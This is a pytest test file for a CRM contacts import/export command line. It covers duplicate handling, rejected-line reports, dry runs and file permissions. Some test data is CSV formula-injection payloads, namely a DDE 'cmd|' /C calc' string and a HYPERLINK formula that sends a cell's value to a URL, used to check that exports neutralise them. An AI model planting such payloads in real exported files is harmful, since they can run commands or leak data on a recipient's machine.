"""`contacts import` and `export`: every line is added, known already, or rejected with its reason."""

from __future__ import annotations

import csv
import os
import stat
from collections.abc import Callable
from pathlib import Path

import pytest

from crm_pipeline.database.engine import Database
from crm_pipeline_tests.cli.conftest import Run
from crm_pipeline_tests.support.contacts import insert, pairs, sql

pytestmark = pytest.mark.usefixtures("environment")


@pytest.fixture
def file(tmp_path: Path) -> Path:
    return tmp_path / "people.csv"


def people(database: Database) -> list[tuple[str, str | None, str | None]]:
    rows = sql(database, "SELECT email, name, phone_number FROM contacts ORDER BY email")
    return [(row.email, row.name, row.phone_number) for row in rows]


def test_lines_become_contacts_whom_nobody_wants_yet(database: Database, run: Run, file: Path) -> None:
    file.write_text("E-Mail;Name;Phone;Shoe size\nann@example.com;Ann Lee;+49 30 1;38\nbob@example.com;;;\n\n")
    said = run("contacts", "import", str(file))
    assert said.code == 0
    assert "2 added; 0 were there already; 0 rejected." in said.out
    assert "Left out: Shoe size" in said.out
    assert people(database) == [("ann@example.com", "Ann Lee", "+49 30 1"), ("bob@example.com", None, None)]
    assert pairs(database) == {"New/NULL": 2}


def test_a_second_import_changes_nothing(database: Database, run: Run, file: Path) -> None:
    insert(database, " Ann@Example.com", name="As it was")
    file.write_text("email,name\nann@example.com,Another\nbob@example.com,Bob\n")
    assert "1 added, 1 selected; 1 were there already" in run("contacts", "import", str(file), "--select").out
    before = sql(database, "SELECT c.*, xmin::text FROM contacts c ORDER BY id")
    assert "0 added, 0 selected; 2 were there already" in run("contacts", "import", str(file), "--select").out
    assert sql(database, "SELECT c.*, xmin::text FROM contacts c ORDER BY id") == before
    assert pairs(database) == {"Selected/Queued": 2}, "the first was selected when it was inserted"


@pytest.fixture
def refuse_to_select(database: Database) -> Callable[[str, str], None]:
    """Let the application's own trigger refuse to select whom the condition names, with this error."""

    def refuse(condition: str, sqlstate: str) -> None:
        sql(
            database,
            "CREATE FUNCTION refuse() RETURNS trigger LANGUAGE plpgsql AS "
            f"$$ BEGIN RAISE 'not today' USING ERRCODE = '{sqlstate}'; END $$",
        )
        sql(
            database,
            f"CREATE TRIGGER refuse BEFORE UPDATE ON contacts FOR EACH ROW WHEN ({condition}) "
            "EXECUTE FUNCTION refuse()",
        )

    return refuse


def test_what_is_cut_off_between_adding_and_selecting_is_not_added_and_the_next_import_does_both(
    database: Database, run: Run, file: Path, refuse_to_select: Callable[[str, str], None]
) -> None:
    file.write_text("email\nann@example.com\nbob@example.com\n")
    refuse_to_select("true", "57014")  # as a cancelled statement ends
    assert run("contacts", "import", str(file), "--select").code != 0
    assert run("contacts", "add", "cy@example.com", "--select").code != 0
    assert people(database) == []
    sql(database, "DROP TRIGGER refuse ON contacts")
    assert "2 added, 2 selected; 0 were there already" in run("contacts", "import", str(file), "--select").out
    assert run("contacts", "add", "cy@example.com", "--select").code == 0
    assert pairs(database) == {"Selected/Queued": 3}


def test_a_contact_that_may_not_be_selected_is_rejected_and_takes_no_other_with_it(
    database: Database, run: Run, file: Path, refuse_to_select: Callable[[str, str], None]
) -> None:
    file.write_text("email\n" + "".join(f"{n}@example.com\n" for n in range(9)))
    refuse_to_select("NEW.email LIKE '3@%'", "P0001")
    said = run("contacts", "import", str(file), "--select")
    assert "8 added, 8 selected; 0 were there already; 1 rejected. line 5: " in said.out
    assert pairs(database) == {"Selected/Queued": 8}


@pytest.mark.parametrize("address", ["ann@example.com\r\n", "\u00a0\tAnn@Example.com ", "v" * 330 + "@example.com"])
def test_an_address_is_the_same_to_the_import_and_to_questions_whatever_blanks_are_around_it(
    database: Database, run: Run, file: Path, address: str
) -> None:
    insert(database, address, "New", None)
    file.write_text(f"email\n{address.strip()}\n", encoding="utf-8")
    assert "0 added; 1 were there already" in run("contacts", "import", str(file)).out
    assert "nobody wants it in Brevo" in run("contacts", "why", f" {address.strip().upper()}").out


def test_two_addresses_are_not_the_same_for_a_letter_at_an_end(database: Database, run: Run, file: Path) -> None:
    insert(database, "vera@example.tv", "New", None)
    file.write_text("email\nera@example.t\n")
    assert "1 added; 0 were there already" in run("contacts", "import", str(file)).out


def test_what_cannot_be_a_contact_goes_to_a_file_of_its_own_with_its_reason(
    database: Database, run: Run, file: Path
) -> None:
    file.write_text(
        "email,name,email_type,has_gmail,page_id\n"
        "ann@example.com,Ann,corporate,yes,0b7f3c6e-6d5e-4a55-8a53-0b1f6f0f7a11\n"
        ",Nobody,,,\n"
        "not an address,X,,,\n"
        "ANN@example.com,Ann again,,,\n"
        "a@example.com,A,PRIVATE,,\n"
        "b@example.com,B,,maybe,\n"
        "c@example.com,C,,,seven\n"
        "d@example.com,D\n"
        '"e@example.com","two\nlines",,,\n'
    )
    said = run("contacts", "import", str(file))
    assert "2 added; 0 were there already; 7 rejected." in said.out
    with (file.parent / "people.rejected.csv").open(newline="") as rejected:
        rows = list(csv.reader(rejected))
    assert rows[0] == ["email", "name", "email_type", "has_gmail", "page_id", "line", "reason"]
    assert [(row[-2], row[-1]) for row in rows[1:]] == [
        ("3", "it has no e-mail address"),
        ("4", "'not an address' is no e-mail address"),
        ("5", "it has the same address as line 2"),
        ("6", "email_type is 'PRIVATE'; it must be one of SERVICE, CORPORATE, FREE, UNKNOWN"),
        ("7", "has_gmail is 'maybe'; it must be true or false"),
        ("8", "'seven' is no UUID"),
        ("9", "it has 2 fields, and the header 5"),
    ]
    (ann,) = sql(database, "SELECT email_type::text, has_gmail, page_id::text FROM contacts WHERE name = 'Ann'")
    assert tuple(ann) == ("CORPORATE", True, "0b7f3c6e-6d5e-4a55-8a53-0b1f6f0f7a11")


def test_a_line_that_the_database_refuses_takes_no_other_with_it(database: Database, run: Run, file: Path) -> None:
    sql(database, "ALTER TABLE contacts ADD CONSTRAINT short CHECK (length(name) < 20)")
    lines = "".join(f"{n}@example.com,{'x' * (30 if n % 7 == 0 else 3)}\n" for n in range(30))
    file.write_text(f"email,name\n{lines}")
    said = run("contacts", "import", str(file))
    assert "25 added; 0 were there already; 5 rejected." in said.out
    assert "violates check constraint" in said.out
    assert len(people(database)) == 25


def test_a_dry_run_changes_nothing_and_writes_no_file(database: Database, run: Run, file: Path) -> None:
    insert(database, "ann@example.com")
    file.write_text("email\nann@example.com\nbob@example.com\nnobody\n")
    said = run("contacts", "import", str(file), "--dry-run")
    assert "1 would be added; 1 were there already; 1 rejected. line 4: 'nobody' is no e-mail address" in said.out
    assert len(people(database)) == 1
    assert [path.name for path in file.parent.iterdir()] == ["people.csv"]


def test_headers_can_be_told_which_column_they_are(database: Database, run: Run, file: Path) -> None:
    file.write_text("Kontakt,Wer\nann@example.com,Ann\n")
    wrong = run("contacts", "import", str(file))
    assert (wrong.code, "Which column has the e-mail addresses?" in wrong.err) == (2, True)
    assert run("contacts", "import", str(file), "--map", "Kontakt=email", "--map", "Wer=name").code == 0
    assert people(database) == [("ann@example.com", "Ann", None)]


@pytest.mark.parametrize(
    ("content", "options", "says"),
    [
        (b"", [], "no header"),
        (b"email\nann\xff@example.com\n", [], "not in utf-8"),
        (b'email\n"ann@example.com\n', [], "is no CSV"),
        (b"email\nann@example.com\n", ["--map", "Mail=email"], "has no column 'Mail'"),
        (b"email,x\nann@example.com,1\n", ["--map", "x=retry_count"], "cannot be imported into"),
        (b"email\nann@example.com\n", ["--encoding", "no-such"], "cannot be read"),
    ],
)
def test_a_file_that_is_none_is_refused_before_anything_is_added(
    database: Database, run: Run, file: Path, content: bytes, options: list[str], says: str
) -> None:
    file.write_bytes(content)
    said = run("contacts", "import", str(file), *options)
    assert (said.code, says.lower() in said.err.lower()) == (2, True), said.err
    assert people(database) == []


def test_what_the_application_demands_of_a_contact_is_named(database: Database, run: Run, file: Path) -> None:
    sql(database, "ALTER TABLE contacts ADD tenant text NOT NULL")
    file.write_text("email\nann@example.com\n")
    said = run("contacts", "import", str(file))
    assert (said.code, "must have a value in tenant" in said.err) == (2, True)


def test_all_contacts_are_exported_with_what_became_of_them_and_come_back_as_they_are(
    database: Database, run: Run, file: Path
) -> None:
    insert(database, "ann@example.com", name='Ann "A", Lee')
    insert(database, "bob@example.com", "New", None)
    assert run("sync", "brevo").code == 0
    assert run("contacts", "export", str(file)).code == 0
    with file.open(newline="") as exported:
        rows = {row["email"]: row for row in csv.DictReader(exported)}
    ann = rows["ann@example.com"]
    assert (ann["name"], ann["sync_status"], ann["id_at_crm"]) == ('Ann "A", Lee', "Complete", "ann@example.com")
    assert rows["bob@example.com"]["sync_status"] == "New"
    assert "0 added; 2 were there already" in run("contacts", "import", str(file)).out
    assert run("contacts", "export", "--status", "New").out.count("@example.com") == 1


FORMULAS = ['=HYPERLINK("http://example.com/?"&B2,"me")', "@SUM(1)", "-1+cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0"]


def cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def test_no_cell_of_a_file_is_a_formula_and_an_import_takes_it_for_what_it_was(
    database: Database, run: Run, file: Path
) -> None:
    insert(database, "=cmd|'/C@example.com", name="'=twice", phone_number="+49 (30) 1-2/3", brevo_processing_error="=1")
    for number, formula in enumerate(FORMULAS):
        insert(database, f"{number}@example.com", name=formula, phone_number=formula)
    before = people(database)
    assert run("contacts", "export", str(file)).code == 0
    written = [cell for row in cells(file) for cell in row]
    assert [cell for cell in written if cell.startswith(("=", "+", "-", "@"))] == ["+49 (30) 1-2/3"]
    assert {"'" + formula for formula in FORMULAS} <= set(written)
    assert run("contacts", "export").out.count("'=HYPERLINK") == 2
    sql(database, "DELETE FROM contacts")
    assert "5 added" in run("contacts", "import", str(file)).out
    assert people(database) == before


def test_no_rejected_line_is_a_formula_and_once_mended_it_is_imported_as_it_was(
    database: Database, run: Run, file: Path
) -> None:
    file.write_text("email,name,=x\n=nobody,=1+1,@y\nann,'=1+2,+49 30 1\n")
    assert "2 rejected" in run("contacts", "import", str(file)).out
    rejected = file.with_suffix(".rejected.csv")
    assert cells(rejected) == [
        ["email", "name", "'=x", "line", "reason"],
        ["'=nobody", "'=1+1", "'@y", "2", "''=nobody' is no e-mail address"],
        ["ann", "'=1+2", "+49 30 1", "3", "'ann' is no e-mail address"],
    ]
    mended = rejected.read_text().replace("'=nobody", "'=nobody@example.com", 1).replace("ann,", "ann@example.com,", 1)
    rejected.write_text(mended)
    assert "2 added" in run("contacts", "import", str(rejected), "--map", "=x=context").out
    rows = sql(database, "SELECT email, name, context FROM contacts ORDER BY email")
    assert [tuple(row) for row in rows] == [
        ("=nobody@example.com", "=1+1", "@y"),
        ("ann@example.com", "=1+2", "+49 30 1"),
    ]


def test_a_file_of_personal_data_is_its_owners_alone_and_one_that_was_there_keeps_its_mode(
    database: Database, run: Run, file: Path
) -> None:
    before = os.umask(0o022)
    try:
        insert(database, "ann@example.com")
        file.write_text("email\nnobody\n")
        rejected, new, old = (file.with_name(name) for name in ("people.rejected.csv", "new.csv", "old.csv"))
        old.write_text("x" * 10_000)
        old.chmod(0o640)
        run("contacts", "import", str(file))
        for path in (new, old):
            assert run("contacts", "export", str(path)).code == 0
        assert [stat.S_IMODE(path.stat().st_mode) for path in (rejected, new, old)] == [0o600, 0o600, 0o640]
        assert old.read_bytes() == new.read_bytes()
    finally:
        os.umask(before)
